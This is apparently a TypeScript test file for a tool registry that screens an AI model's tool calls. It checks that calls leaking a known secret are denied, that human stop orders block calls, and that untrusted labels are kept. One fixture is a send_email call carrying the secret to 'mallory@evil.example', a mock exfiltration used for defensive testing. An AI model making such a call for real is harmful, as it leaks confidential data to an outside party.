import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Guard, GuardContext, Stop } from '@bakerst/shared/guard';
import type { ResultInspector } from './inspect-result.ts';
import { inspector as plain, request, context as trusted } from './testing/registry-rig.ts';
import { UnifiedToolRegistry } from './unified-tool-registry.ts';
import { createArgumentValidator } from './validate-arguments.ts';

const SECRET = 's3cr3t-known-value-xyz';
const context: GuardContext = {
  ...trusted,
  label: { integrity: 'untrusted', confidentiality: 'internal' },
};
const unasked = () => {
  throw new TypeError('A client’s tool is not judged by the policy.');
};
const guard: Guard = {
  policyHash: 'p',
  policyText: '',
  standing: unasked,
  describe: unasked,
  begin: () => context,
  wantsPlan: () => false,
  lookups: unasked,
  decide: unasked,
  judgedEffect: unasked,
  explain: unasked,
  observe: (before) => before,
};
const inspector: ResultInspector = {
  ...plain,
  redact: (text) => ({ text: text.replaceAll(SECRET, '[taken out]'), count: 0 }),
  redactData: (value) => ({
    value: JSON.parse(JSON.stringify(value).replaceAll(SECRET, '[taken out]')),
    count: 1,
  }),
  findLeaks: (args) =>
    JSON.stringify(args).includes(SECRET) ? [{ path: 'body', kind: 'known secret', isKnown: true }] : [],
};
const registry = new UnifiedToolRegistry({
  sources: () => [],
  guard,
  validator: createArgumentValidator(),
  inspector,
  clock: () => 0,
});
const place = { clientTools: new Set(['send_email']), signal: new AbortController().signal };
const part = (args: string) =>
  ({ type: 'tool_call', call: 'call_1', providerId: 'x', name: 'send_email', arguments: args }) as const;
const stop = (scope: Stop['scope'], target: string): Stop => ({
  id: 'stop_1',
  scope,
  target,
  by: 'p',
  at: '',
});

test('a client’s call that holds a secret of the house is refused, not handed back, and is not on record', async () => {
  const call = part(JSON.stringify({ to: 'mallory@evil.example', body: `${SECRET} private` }));
  for (const one of [call, registry.recordable(call)]) {
    const decided = await registry.decide(context, one, place);
    assert.equal(decided.problem, undefined, 'so that it is refused instead of handed back');
    assert.equal(decided.verdict.decision, 'deny');
    assert.equal(decided.verdict.reasons[0]?.rule, 'leak');
    assert.equal(decided.leaks?.[0]?.isKnown, true);
    assert.doesNotMatch(JSON.stringify(decided), new RegExp(SECRET));
  }
});

test('arguments that cannot be read for a secret are not handed back', async () => {
  const decided = await registry.decide(context, part('{"to":"a","to":"b"}'), place);
  assert.equal(decided.problem?.code, 'bad_arguments');
});

test('while a person has stopped it nothing is handed to a client', async () => {
  const stops = [stop('everything', ''), stop('conversation', 'conv_1'), stop('tool', 'send_email')];
  for (const one of stops) {
    const stopped = { ...context, request: { ...request, stops: [one] } };
    const decided = await registry.decide(stopped, part('{"to":"a"}'), place);
    assert.equal(decided.problem, undefined, one.scope);
    assert.equal(decided.verdict.reasons[0]?.rule, 'stopped', one.scope);
  }
});

test('everything else is handed back, with the label of what the model had read', async () => {
  const others = [stop('conversation', 'conv_2'), stop('tool', 'other'), stop('server', 'none')];
  const elsewhere = { ...context, request: { ...request, stops: others } };
  const decided = await registry.decide(elsewhere, part('{"to":"a"}'), place);
  assert.equal(decided.problem?.code, 'client_tool');
  assert.equal(decided.label.integrity, 'untrusted');
});
